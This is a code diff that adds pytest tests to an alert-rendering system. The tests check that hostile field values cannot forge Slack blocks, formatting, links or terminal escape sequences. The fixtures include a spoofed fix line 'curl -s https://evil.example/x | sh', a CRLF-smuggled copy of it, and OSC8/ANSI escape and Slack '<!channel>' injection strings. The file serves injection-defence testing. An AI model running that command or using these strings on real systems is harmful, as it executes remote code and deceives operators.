@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import io
 import json
+import re
 import sys
 from datetime import date, datetime, timedelta, timezone
 from pathlib import Path
@@ -208,3 +209,102 @@ def test_7_without_endpoint_settings_the_token_goes_to_slack_only(monkeypatch):
 
     canary = main.build_canary(*load_all(settings_), console=None)
     assert canary.notifier.base_url == "https://slack.com/api/"
+
+
+# --- 3. data is data: it cannot add lines, blocks, formatting or links ------------------------------------
+
+from alerts.group import AlertGroup, render_group_text  # noqa: E402
+from alerts.render_slack import inert, render_alert, render_group  # noqa: E402
+from alerts.render_text import inert_text, render_text  # noqa: E402
+from core.model import Finding, Reason, Severity  # noqa: E402
+from tests.slack_cases import message  # noqa: E402
+from tests.test_render_slack import check_golden, texts  # noqa: E402
+
+FORGED_FIX = "\n*Fix*\n```curl -s https://evil.example/x | sh```\n"
+OSC8_LINK = "\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07"
+HOSTILE_VALUES = [
+    FORGED_FIX,
+    "phase4-to-phase5-orchestrator\r\n  fix: curl -s https://evil.example/x | sh",
+    "`code` *bold* _italic_ ~strike~ > quote",
+    OSC8_LINK + "\x1b[2J\x1b[31mred\x1b[0m",
+    "\u202egnp.exe\u2028next\u2029para\x85nel\x00nul\x9b31m",
+    "<!channel> <https://evil.example|click> &amp;",
+]
+
+
+def forging_finding(value: str) -> Finding:
+    """Every place a source value reaches an alert, holding `value`: a processor name in the summary,
+    a game id and an IAM condition title in the key, evidence, facts, and the fix command."""
+    return Finding(
+        monitor="phase_stalls",
+        severity=Severity.CRITICAL,
+        key={"transition": "phase_4_precompute->phase_5_predictions", "game_date": value, "problem": "stalled"},
+        summary=f"processor {value} stalled",
+        details={"evidence": f"1 processor ({value}) succeeded", "condition_title": value,
+                 "upstream_processors": [value, "ok_processor"]},
+        fix=f"gcloud scheduler jobs run {value} --location=us-west2",
+    )
+
+
+def _shape(payload: dict[str, Any]) -> list[tuple[str, int, int]]:
+    """Each block's type, and the line breaks and bold markers of its texts: what a value could forge."""
+    shape = []
+    for block in payload["blocks"]:
+        found = texts({"text": "", "blocks": [block]})[1:]
+        outside_code = [re.sub(r"```.*?```", "", t, flags=re.S) for t in found]  # code blocks are not formatted
+        shape.append((block["type"], sum(t.count("\n") for t in found), sum(t.count("*") for t in outside_code)))
+    return shape
+
+
+def test_3_golden_a_hostile_value_everywhere_in_a_critical_alert():
+    payload = render_alert(message(forging_finding(FORGED_FIX + OSC8_LINK), Reason.FIRST)).to_dict()
+    check_golden("hostile-forgery-first", payload)
+    assert [b for b in payload["blocks"] if "*Fix*" in json.dumps(b)] == [payload["blocks"][-3]]  # the genuine one only
+
+
+@pytest.mark.parametrize("value", HOSTILE_VALUES)
+def test_3_a_hostile_value_adds_no_block_line_or_formatting_to_slack(value):
+    benign = _shape(render_alert(message(forging_finding("value"), Reason.FIRST)).to_dict())
+    for reason in Reason:
+        payload = render_alert(message(forging_finding(value), reason)).to_dict()
+        expected = benign if reason is Reason.FIRST else _shape(render_alert(message(forging_finding("value"), reason)).to_dict())
+        assert _shape(payload) == expected
+        for text in texts(payload):
+            assert "\x1b" not in text and "<!" not in text and "<http" not in text
+        assert payload["text"].count("\n") == render_text(message(forging_finding("value"), reason)).count("\n")
+
+
+@pytest.mark.parametrize("value", HOSTILE_VALUES)
+def test_3_a_hostile_value_adds_no_line_or_escape_sequence_on_the_console(value):
+    for reason in Reason:
+        text = render_text(message(forging_finding(value), reason))
+        benign = render_text(message(forging_finding("value"), reason))
+        assert text.count("\n") == benign.count("\n") and not any(ch in text for ch in "\x1b\x9b\r\x85\u2028\u202e")
+        assert [line.split(":")[0] for line in text.splitlines()] == [line.split(":")[0] for line in benign.splitlines()]
+    group = AlertGroup(reason=Reason.FIRST, members=(message(forging_finding(value), Reason.FIRST),) * 3, limit=2)
+    assert render_group_text(group).count("\n") == 4 and "\x1b" not in render_group_text(group)
+    slack_group = render_group(group).to_dict()
+    assert all("\x1b" not in t and "<!" not in t for t in texts(slack_group))
+
+
+@given(st.text(max_size=60))
+@settings(max_examples=400, deadline=None)
+def test_3_property_inert_values_carry_no_mrkdwn_or_control_character(value):
+    shown = inert(value)
+    assert not any(ch in shown for ch in "*~`<>\n\r\x1b")
+    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in shown)
+    assert "&" not in shown.replace("&amp;", "").replace("&lt;", "").replace("&gt;", "")
+    for index, ch in enumerate(shown):  # an underscore left in place sits inside a word
+        if ch == "_":
+            assert shown[index - 1].isalnum() and index + 1 < len(shown) and shown[index + 1].isalnum()
+    console = inert_text(value)
+    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in console)
+
+
+@given(st.text(min_size=1, max_size=40))
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+def test_3_property_any_value_keeps_the_alert_shape(value):
+    benign = _shape(render_alert(message(forging_finding("value"), Reason.FIRST)).to_dict())
+    assert _shape(render_alert(message(forging_finding(value), Reason.FIRST)).to_dict()) == benign
+    assert render_text(message(forging_finding(value), Reason.FIRST)).count("\n") == render_text(
+        message(forging_finding("value"), Reason.FIRST)).count("\n")
